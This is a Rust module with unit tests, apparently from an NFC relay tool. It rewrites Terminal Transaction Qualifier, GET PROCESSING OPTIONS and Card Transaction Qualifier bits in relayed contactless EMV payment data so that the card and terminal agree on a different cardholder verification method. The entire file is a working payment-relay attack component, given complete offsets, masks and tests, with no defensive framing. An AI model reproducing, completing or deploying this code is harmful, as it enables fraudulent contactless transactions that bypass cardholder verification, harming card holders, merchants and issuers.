//! In-place rewriting of cardholder-verification bits in relayed EMV data.
//!
//! Contactless payment terminals advertise their capabilities in the
//! *Terminal Transaction Qualifiers* (TTQ, tag `9F66`), and cards answer with
//! *Card Transaction Qualifiers* (CTQ, tag `9F6C`).  Flipping a few of those
//! bits while the exchange is relayed changes which cardholder verification
//! method (CDCVM) the two sides agree on.
//!
//! # How the scan works
//!
//! The filter walks the payload once, left to right.  At each position `i` it
//! looks at the byte pair `(i, i+1)` and checks three tags in a fixed order:
//!
//! | Tag | Bytes       | Effect                                                         |
//! |-----|-------------|----------------------------------------------------------------|
//! | A   | `9F 66`     | Arms the filter for the next GET PROCESSING OPTIONS; stops.    |
//! | B   | `80 A8`     | Only when armed: disarms, clears bit 6 of byte `i+8` if set.   |
//! | C   | `9F 6C`     | If bit 7 of byte `i+8` is clear, flips bit 7 of byte `i+4`.    |
//!
//! Whichever tag first changes something ends the scan for that payload.  Tag
//! A always ends the scan, even though it changes no bytes, so a payload that
//! carries both the TTQ tag and a later GPO command only arms the filter.  The
//! GPO rewrite happens on a *later* frame.
//!
//! The offsets and bit positions are reproduced exactly as the relay has
//! always applied them.  They do not match the EMV byte/bit numbering in the
//! tag comments of most references; do not "fix" them without checking
//! against captured traffic.
//!
//! Every read beyond `i` is bounds-checked.  An offset that falls past the end
//! of the payload means "no match at this position".

/// Tag A: Terminal Transaction Qualifiers.
const TTQ_TAG: (u8, u8) = (0x9F, 0x66);
/// Tag B: GET PROCESSING OPTIONS command header (CLA 80, INS A8).
const GPO_TAG: (u8, u8) = (0x80, 0xA8);
/// Tag C: Card Transaction Qualifiers.
const CTQ_TAG: (u8, u8) = (0x9F, 0x6C);

/// Offset (from the tag) of the byte tested by tags B and C.
const TEST_OFFSET: usize = 8;
/// Offset (from the tag) of the byte rewritten by tag C.
const CTQ_TARGET_OFFSET: usize = 4;

/// Bit cleared by tag B.
const GPO_MASK: u8 = 1 << 6;
/// Bit tested and flipped by tag C.
const CTQ_MASK: u8 = 1 << 7;

/// What a single [`FieldMutationFilter::apply`] call did.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum MutationOutcome {
    /// No tag fired; the output equals the input.
    Unchanged,
    /// Tag A was found at `offset`; the filter is now armed.
    TtqDetected { offset: usize },
    /// Tag B cleared bit 6 of the byte at `offset`.
    GpoBitCleared { offset: usize },
    /// Tag C flipped bit 7 of the byte at `offset`.
    CtqBitFlipped { offset: usize },
}

impl MutationOutcome {
    /// Returns `true` if any output byte differs from the input.
    pub fn modified(&self) -> bool {
        matches!(
            self,
            MutationOutcome::GpoBitCleared { .. } | MutationOutcome::CtqBitFlipped { .. }
        )
    }
}

/// The per-connection field mutation pass.
///
/// The only state is the "TTQ seen" flag, which carries over from one frame
/// to the next on the same connection.  Each connection must own its own
/// filter.
///
/// # Examples
///
/// ```rust
/// use nfc_relay_core::{FieldMutationFilter, MutationOutcome};
///
/// let mut filter = FieldMutationFilter::new();
///
/// // A frame carrying the TTQ tag arms the filter.
/// let (_, outcome) = filter.apply(&[0x9F, 0x66, 0x36, 0x00]);
/// assert_eq!(outcome, MutationOutcome::TtqDetected { offset: 0 });
///
/// // The next GET PROCESSING OPTIONS has bit 6 of byte i+8 cleared.
/// let gpo = [0x80, 0xA8, 0, 0, 0, 0, 0, 0, 0x40];
/// let (out, outcome) = filter.apply(&gpo);
/// assert_eq!(outcome, MutationOutcome::GpoBitCleared { offset: 8 });
/// assert_eq!(out[8], 0x00);
/// ```
#[derive(Debug, Default, Clone)]
pub struct FieldMutationFilter {
    ttq_armed: bool,
}

impl FieldMutationFilter {
    /// Creates a disarmed filter.
    pub fn new() -> Self {
        Self::default()
    }

    /// Returns `true` if a TTQ tag was seen and no GPO has consumed it yet.
    pub fn is_armed(&self) -> bool {
        self.ttq_armed
    }

    /// Scans `payload` and returns a rewritten copy plus what happened.
    ///
    /// The input slice is never modified; every read is taken from it and
    /// every write goes to the copy.
    pub fn apply(&mut self, payload: &[u8]) -> (Vec<u8>, MutationOutcome) {
        let mut out = payload.to_vec();

        for i in 0..payload.len() {
            let Some(&next) = payload.get(i + 1) else {
                continue;
            };
            let pair = (payload[i], next);

            if pair == TTQ_TAG {
                self.ttq_armed = true;
                return (out, MutationOutcome::TtqDetected { offset: i });
            }

            if self.ttq_armed && pair == GPO_TAG {
                if let Some(&test) = payload.get(i + TEST_OFFSET) {
                    self.ttq_armed = false;
                    if test & GPO_MASK != 0 {
                        out[i + TEST_OFFSET] = test ^ GPO_MASK;
                        return (
                            out,
                            MutationOutcome::GpoBitCleared {
                                offset: i + TEST_OFFSET,
                            },
                        );
                    }
                }
            }

            if pair == CTQ_TAG {
                if let Some(&test) = payload.get(i + TEST_OFFSET) {
                    if test & CTQ_MASK == 0 {
                        let target = i + CTQ_TARGET_OFFSET;
                        out[target] = payload[target] ^ CTQ_MASK;
                        return (out, MutationOutcome::CtqBitFlipped { offset: target });
                    }
                }
            }
        }

        (out, MutationOutcome::Unchanged)
    }
}

// ── Tests ─────────────────────────────────────────────────────────────────────

#[cfg(test)]
mod tests {
    use super::*;

    fn gpo(mask_byte: u8) -> Vec<u8> {
        // 80 A8 00 00 | Lc | 83 len | pdol... with the tested byte at i+8
        vec![0x80, 0xA8, 0x00, 0x00, 0x23, 0x83, 0x21, 0x00, mask_byte, 0x11]
    }

    #[test]
    fn test_new_filter_is_disarmed() {
        assert!(!FieldMutationFilter::new().is_armed());
    }

    #[test]
    fn test_payload_without_tags_is_unchanged() {
        // Arrange
        let mut filter = FieldMutationFilter::new();
        let payload = [0x00, 0xA4, 0x04, 0x00, 0x07];

        // Act
        let (out, outcome) = filter.apply(&payload);

        // Assert
        assert_eq!(out, payload);
        assert_eq!(outcome, MutationOutcome::Unchanged);
        assert!(!outcome.modified());
    }

    #[test]
    fn test_ttq_tag_arms_filter_without_changing_bytes() {
        let mut filter = FieldMutationFilter::new();
        let payload = [0x01, 0x9F, 0x66, 0x04, 0x36];

        let (out, outcome) = filter.apply(&payload);

        assert_eq!(out, payload);
        assert_eq!(outcome, MutationOutcome::TtqDetected { offset: 1 });
        assert!(filter.is_armed());
    }

    #[test]
    fn test_ttq_stops_scan_before_gpo_in_same_payload() {
        // Arrange: TTQ first, then a GPO whose masked bit is set.
        let mut filter = FieldMutationFilter::new();
        let mut payload = vec![0x9F, 0x66];
        payload.extend(gpo(0x40));

        // Act
        let (out, outcome) = filter.apply(&payload);

        // Assert: only armed, nothing rewritten.
        assert_eq!(outcome, MutationOutcome::TtqDetected { offset: 0 });
        assert_eq!(out, payload);
    }

    #[test]
    fn test_gpo_after_ttq_in_separate_frame_clears_bit_six() {
        // Arrange
        let mut filter = FieldMutationFilter::new();
        filter.apply(&[0x9F, 0x66, 0x02, 0x36, 0x00]);
        let payload = gpo(0x46);

        // Act
        let (out, outcome) = filter.apply(&payload);

        // Assert: bit 6 cleared, every other byte identical.
        assert_eq!(outcome, MutationOutcome::GpoBitCleared { offset: 8 });
        assert_eq!(out[8], 0x06);
        for (i, (a, b)) in payload.iter().zip(&out).enumerate() {
            if i != 8 {
                assert_eq!(a, b, "byte {i} must be unchanged");
            }
        }
        assert!(!filter.is_armed(), "a matched GPO consumes the flag");
    }

    #[test]
    fn test_gpo_without_prior_ttq_is_ignored() {
        let mut filter = FieldMutationFilter::new();
        let payload = gpo(0x40);

        let (out, outcome) = filter.apply(&payload);

        assert_eq!(out, payload);
        assert_eq!(outcome, MutationOutcome::Unchanged);
    }

    #[test]
    fn test_gpo_with_bit_already_clear_disarms_without_change() {
        let mut filter = FieldMutationFilter::new();
        filter.apply(&[0x9F, 0x66]);
        let payload = gpo(0x00);

        let (out, outcome) = filter.apply(&payload);

        assert_eq!(out, payload);
        assert_eq!(outcome, MutationOutcome::Unchanged);
        assert!(!filter.is_armed());
    }

    #[test]
    fn test_truncated_gpo_keeps_filter_armed() {
        // Arrange: i+8 is past the end, so this is no match at all.
        let mut filter = FieldMutationFilter::new();
        filter.apply(&[0x9F, 0x66]);

        // Act
        let (_, outcome) = filter.apply(&[0x80, 0xA8, 0x00, 0x00]);

        // Assert
        assert_eq!(outcome, MutationOutcome::Unchanged);
        assert!(filter.is_armed());
    }

    #[test]
    fn test_ctq_with_bit_seven_clear_flips_byte_at_offset_four() {
        // Arrange: 9F 6C at 1; target at 5; tested byte at 9 has bit 7 clear.
        let mut filter = FieldMutationFilter::new();
        let payload = [0x77, 0x9F, 0x6C, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00];

        // Act
        let (out, outcome) = filter.apply(&payload);

        // Assert
        assert_eq!(outcome, MutationOutcome::CtqBitFlipped { offset: 5 });
        assert_eq!(out[5], 0x80);
        for i in (0..payload.len()).filter(|&i| i != 5) {
            assert_eq!(out[i], payload[i], "byte {i} must be unchanged");
        }
    }

    #[test]
    fn test_ctq_with_bit_seven_set_is_unchanged() {
        let mut filter = FieldMutationFilter::new();
        let payload = [0x9F, 0x6C, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0x80];

        let (out, outcome) = filter.apply(&payload);

        assert_eq!(out, payload);
        assert_eq!(outcome, MutationOutcome::Unchanged);
    }

    #[test]
    fn test_ctq_flip_is_an_xor_not_a_set() {
        // The target byte already has bit 7 set; the flip clears it.
        let mut filter = FieldMutationFilter::new();
        let payload = [0x9F, 0x6C, 0x02, 0x00, 0xC0, 0x00, 0x00, 0x00, 0x00];

        let (out, _) = filter.apply(&payload);

        assert_eq!(out[4], 0x40);
    }

    #[test]
    fn test_tags_at_payload_end_do_not_read_out_of_bounds() {
        let mut filter = FieldMutationFilter::new();
        for payload in [
            vec![0x9F],
            vec![0x80],
            vec![0x00, 0x9F, 0x6C],
            vec![0x9F, 0x6C, 0, 0, 0, 0, 0, 0],
        ] {
            let (out, outcome) = filter.apply(&payload);
            assert_eq!(out, payload);
            assert_eq!(outcome, MutationOutcome::Unchanged);
        }
    }

    #[test]
    fn test_empty_payload_is_unchanged() {
        let mut filter = FieldMutationFilter::new();
        let (out, outcome) = filter.apply(&[]);
        assert!(out.is_empty());
        assert_eq!(outcome, MutationOutcome::Unchanged);
    }

    #[test]
    fn test_first_firing_tag_wins() {
        // Arrange: a CTQ that would flip, followed by a TTQ tag.
        let mut filter = FieldMutationFilter::new();
        let mut payload = vec![0x9F, 0x6C, 0, 0, 0, 0, 0, 0, 0x00];
        payload.extend([0x9F, 0x66]);

        // Act
        let (_, outcome) = filter.apply(&payload);

        // Assert: CTQ fired first and the later TTQ was never seen.
        assert_eq!(outcome, MutationOutcome::CtqBitFlipped { offset: 4 });
        assert!(!filter.is_armed());
    }
}
